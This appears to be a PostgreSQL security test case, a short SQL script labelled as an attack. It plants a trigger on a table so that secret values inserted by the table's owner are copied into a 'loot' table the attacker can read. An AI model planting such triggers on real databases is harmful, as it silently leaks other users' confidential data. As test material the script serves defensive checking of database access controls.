-- Plants a trigger on an own licensed table that copies what its users write.
-- wants: read
-- attack:
CREATE TABLE loot (s text);
GRANT INSERT ON loot TO alice;
CREATE FUNCTION copy_it() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN
  INSERT INTO loot VALUES (NEW.secret); RETURN NEW; END$$;
CREATE TRIGGER t BEFORE INSERT ON vlt_mine FOR EACH ROW EXECUTE FUNCTION copy_it();
-- as: owner
INSERT INTO vlt_mine VALUES (100, 'top-secret-4711 new');
-- session: first
SELECT * FROM loot;
